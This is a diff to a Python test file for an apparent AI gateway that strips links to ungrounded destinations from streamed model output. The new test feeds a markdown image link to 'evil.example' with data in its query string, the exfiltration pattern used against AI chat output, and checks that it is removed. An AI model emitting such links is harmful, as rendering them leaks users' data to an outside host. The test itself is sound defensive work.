@@ -38,8 +38,11 @@ from starlette.routing import Route
 
 from fak_core import GroundingStore, Kernel, Policy, ToolDecl
 from fak_core.gateway import GatewayState, UpstreamConfig, proxy_routes
+from fak_core.gateway.openai_proxy import _police_chunk
+from fak_core.gateway.text_output import text_policy
 from fak_core.journal import Journal, read_rows
 from fak_core.nonblocking import is_nonblocking
+from fak_core.taint import Taint
 from tests.encoded_links import PUNCT, written_link
 
 from .inprocess import fresh_trace
@@ -246,6 +249,10 @@ async def fak_record(app: Starlette, wire: str, stream: bool) -> dict[str, Any]:
     if not stream:
         return dict(r.json()["fak"])
     events = [json.loads(ln[6:]) for ln in r.text.splitlines() if ln.startswith("data: {")]
+    if wire == "anthropic":  # the policed text block is opened and stopped once, at 0
+        kinds = [(e["type"], e.get("index")) for e in events if "content_block" in e["type"]]
+        assert kinds[0] == ("content_block_start", 0) and kinds[-1] == ("content_block_stop", 0)
+        assert [k for k in kinds if k[0] != "content_block_delta"] == [kinds[0], kinds[-1]]
     (record,) = [e["fak"] for e in events if "fak" in e]
     return dict(record)
 
@@ -282,6 +289,9 @@ def answers(draw: st.DrawFn) -> tuple[str, str, list[str]]:
             expected.append("".join(MARK if secret in w else re.escape(w) for w in words))
         text.append(" ")
         expected.append(" ")
+    if draw(st.booleans()):  # the answer ends in its last word, no white space after it
+        text.pop()
+        expected.pop()
     return "".join(text), "".join(expected), secrets
 
 
@@ -381,3 +391,27 @@ def test_each_removal_is_journaled_and_the_setting_off_relays_the_text(
     off.kernel.set_policy(POLICY)
     off.text_links = "off"
     assert asyncio.run(client_text(_gateway(off), wire, stream, tainted=True)) == _ANSWER["text"]
+
+
+@pytest.mark.fak_theorem("D10.8")
+def test_a_streamed_refusal_is_policed_like_content() -> None:
+    """A delta that carries only a ``refusal`` (no ``content``), and one that carries both."""
+    state = make_state()
+    state.kernel.set_policy(POLICY)
+    trace = fresh_trace("text-links")
+    state.kernel.ledger.raise_to(trace, Taint.TAINTED)
+    policer = text_policy(state, trace)
+    assert policer is not None
+    streams: dict[tuple[int, str], Any] = {}
+    evil = "![x](https://evil.example/p.png?d=S9Q) "
+    mark = "[link removed by fak: ungrounded destination evil[.]example] "
+
+    async def run(delta: dict[str, Any]) -> dict[str, Any] | None:
+        chunk = {"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
+        return await _police_chunk(policer, streams, chunk)
+
+    out = asyncio.run(run({"refusal": "no " + evil}))
+    assert out is not None and out["choices"][0]["delta"] == {"refusal": "no " + mark}
+    out = asyncio.run(run({"content": "a ", "refusal": evil}))
+    assert out is not None and out["choices"][0]["delta"] == {"content": "a ", "refusal": mark}
+    assert asyncio.run(run({"role": "", "content": "held"})) is None
